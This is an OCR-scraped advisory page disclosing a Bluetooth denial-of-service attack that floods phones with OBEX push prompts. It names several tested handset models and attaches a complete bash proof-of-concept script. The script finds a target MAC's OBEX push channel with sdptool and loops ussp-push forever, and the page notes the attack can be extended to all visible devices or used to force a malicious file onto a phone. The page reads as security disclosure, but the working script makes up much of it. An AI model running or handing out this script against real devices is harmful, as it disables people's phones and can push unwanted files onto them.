Bluetooth DoS by obex push [readable]

Risk: Low
Local: No
Remote: Yes

Sorry for the trouble with the wrong characters, below the corrected text with attachment in plain text: Using ussp-push [1], it is possible to send out files very quickly. By continuously trying to push a file, the target is flooded with prompts whether to accept the file or not, which disables any other usage on the phone, including the ability to turn off Bluetooth. We confirmed the attack to work on the following phones (all tested ones!): - Sony Ericsson K700i - Nokia N70 - Motorola MOTORAZR V3 - Sony Ericsson W810i - LG Chocolate KG800 and expect nearly all available phones with Bluetooth to be vulnerable (in contrary to the previous DoS by l2ping). A proof-of-concept code is attached, using ussp-push and targetinga known MAC. This could be easily extended to target all visible devices. Plus, a user could be forced to accept a possibly malicious file with this attack. Using only one Bluetooth-Dongle, we were able to practically disable three phones simlutaneously. Best regards, Stefan Ekerfelt and Armin Hornung [1] Proof-of-concept code: --- #!/bin/bash checkOPUSH() { MAC=$1 OCHAN=$(sdptool search --bdaddr $MAC OPUSH | grep Channel:) if test "$OCHAN" != "" then OCHAN=$(echo $OCHAN | awk '/Channel:/ { print $2 }')return $OCHAN fi return 0 } if test $# -ne 2then echo "Usage: $0 <bdaddr> <filename>" exit 127 fi MAC=$1 FILENAME=$2 checkOPUSH $1 OCHAN=$?if test $OCHAN -eq 0 then echo "Couldn't connect to $MAC via OBEX push." exit 127 fi while true do ./ussp-push $MAC@$OCHAN $FILENAME $FILENAME done

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment}}

Copyright 2022,


Back to Top